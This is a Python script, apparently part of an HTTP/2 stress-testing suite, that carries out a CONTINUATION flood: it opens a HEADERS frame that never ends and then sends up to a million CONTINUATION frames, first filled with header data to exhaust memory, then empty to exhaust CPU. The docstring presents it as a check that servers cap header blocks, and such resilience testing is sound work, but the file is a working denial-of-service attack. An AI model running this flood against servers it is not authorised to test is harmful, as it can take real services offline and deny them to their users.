#!/usr/bin/env python3
"""CONTINUATION flood: a HEADERS frame without END_HEADERS followed by CONTINUATION
frames that never end the header block: first 16 KiB frames of header fields (memory),
then, on a fresh connection, empty CONTINUATION frames (CPU). Bounded by --count
frames per phase and --seconds. A resilient server caps the header block's bytes and
frames and closes (GOAWAY or 431)."""
import time

import h2attack as a


def phase(args, empty, deadline):
    c = a.Conn(args)
    # ACK the server's SETTINGS before the header block starts: nothing may come
    # between HEADERS and its CONTINUATIONs, so no ACK is sent after that.
    a.wait_settings(c, 0.5)
    c.send(b"")
    c.auto_ack = False
    block = a.request_block(a.authority(args), "/", scheme=a.scheme(args))
    c.send(a.frame(a.HEADERS, a.END_STREAM, 1, block))
    field = a.lit("x-flood", "a" * 200)
    payload = b"" if empty else field * (16000 // len(field))
    frames = 0
    while not c.closed and frames < args.count and time.monotonic() < deadline:
        n = 1000 if empty else 16
        if not c.send(a.frame(a.CONTINUATION, 0, 1, payload) * n, timeout=max(0.1, deadline - time.monotonic())):
            break
        frames += n
    c.pump(0.5)
    c.close()
    return c, frames, frames * len(payload)


def attack(args):
    t = time.monotonic()
    c1, f1, b1 = phase(args, False, t + args.seconds / 2)
    c2, f2, b2 = phase(args, True, time.monotonic() + args.seconds / 2)
    return {"sent": "%d CONTINUATION frames (%.1f MiB) on one header block; then %d empty ones"
            % (f1, b1 / 1048576, f2),
            "frames_full": f1, "bytes_full": b1, "frames_empty": f2,
            "reaction": "full: %s | empty: %s" % (c1.reaction(), c2.reaction())}


if __name__ == "__main__":
    a.run("continuation_flood", __doc__, attack, count_default=1000000)
